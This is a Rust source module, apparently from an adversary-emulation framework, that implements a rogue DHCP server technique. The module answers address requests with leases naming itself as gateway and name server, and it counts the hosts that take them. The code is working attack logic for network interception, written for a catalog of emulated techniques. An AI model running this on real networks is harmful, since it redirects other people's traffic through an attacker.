//! Answers hosts that ask for an address, before the real server does.

use super::{Progress, Technique};
use crate::catalog::Entry;
use crate::net::port::{Input, SocketEvent};
use crate::parameters::Parameters;
use crate::time::Duration;
use crate::wire::dhcp::{CLIENT_PORT, Dhcp, Lease, SERVER_PORT};
use crate::wire::{Cidr, Ip, Message};

/// Technique `rogue-dhcp`.
#[derive(Debug)]
pub(super) struct RogueDhcp;

/// What a step gives to it.
#[derive(Clone, Debug, Parameters)]
pub(super) struct Params {
    /// Hosts to lease to before going on.
    #[param(default = 1, range = 1..=1000000)]
    clients: u32,
    /// Address that leases give as the name server, the real gateway staying the gateway; itself as both if not given.
    name_server: Option<Ip>,
}

type Step<'s, 'a, 'c> = super::Step<'s, 'a, 'c, RogueDhcp>;

static ENTRY: Entry = Entry {
    id: "rogue-dhcp",
    title: "Lease addresses in the server's place",
    summary: "Listens for hosts that ask for an address and offers one at once, with itself as gateway and name server. A client takes the first \
              offer that it hears, so it succeeds where the attacker hears the request and its answer is not dropped on the way. Succeeds when as \
              many hosts as asked for have taken a lease. Its noise is an offer from a host that is no server.",
    parameters: Params::PARAMETERS,
    relations: Params::RELATIONS,
    references: &["T1557.003", "T0830"],
};

/// Time for which it listens.
const PATIENCE: Duration = Duration::from_hours(2);
/// Half a day in seconds.
const LEASE_SECONDS: u32 = 43_200;

/// The lease that a client is given: the `n`th, around the own address.
fn lease(step: &Step<'_, '_, '_>, own: Ip, n: u32) -> Lease {
    let around = Cidr { ip: own, len: 24 };
    let named = step.params.name_server;
    let gateway = match named {
        Some(_) => step.hands.gateway(),
        None => Some(own),
    };
    Lease {
        ip: around.nth(210 + n % 40),
        prefix: 24,
        gateway,
        dns: named.or(Some(own)),
        seconds: LEASE_SECONDS,
    }
}

/// Answers a client. Whether it took the lease.
fn answer(step: &mut Step<'_, '_, '_>, own: Ip, dhcp: Dhcp) -> bool {
    let lease = lease(step, own, step.knowledge.net.leases);
    let (answer, taken) = match dhcp {
        Dhcp::Discover { xid, mac } => (
            Dhcp::Offer {
                xid,
                mac,
                lease,
                server: own,
            },
            false,
        ),
        Dhcp::Request {
            xid, mac, server, ..
        } if server == own => (
            Dhcp::Ack {
                xid,
                mac,
                lease,
                server: own,
            },
            true,
        ),
        _ => return false,
    };
    let to = (Ip::BROADCAST, CLIENT_PORT);
    step.hands
        .datagram_as((own, SERVER_PORT), to, Message::Dhcp(answer));
    taken
}

impl Technique for RogueDhcp {
    type Params = Params;
    type State = ();
    const ENTRY: &'static Entry = &ENTRY;
    const STAGES: &'static [&'static str] = &["listen", "offer", "a host takes the lease"];

    fn patience(_: &Params) -> Duration {
        PATIENCE
    }

    fn act(step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
        match input {
            Input::Begin => {
                step.hands.bind(SERVER_PORT);
                Progress::Wait
            }
            Input::Socket(SocketEvent::Datagram { message, .. }) => {
                let (Message::Dhcp(dhcp), Some(own)) = (&**message, step.hands.ip()) else {
                    return Progress::Wait;
                };
                if !answer(step, own, *dhcp) {
                    return Progress::Reached(1);
                }
                step.knowledge.net.leases += 1;
                if step.knowledge.net.leases < step.params.clients {
                    return Progress::Wait;
                }
                step.hands.learned("that a host took its lease");
                Progress::Done("a host took the lease")
            }
            _ => Progress::Wait,
        }
    }
}
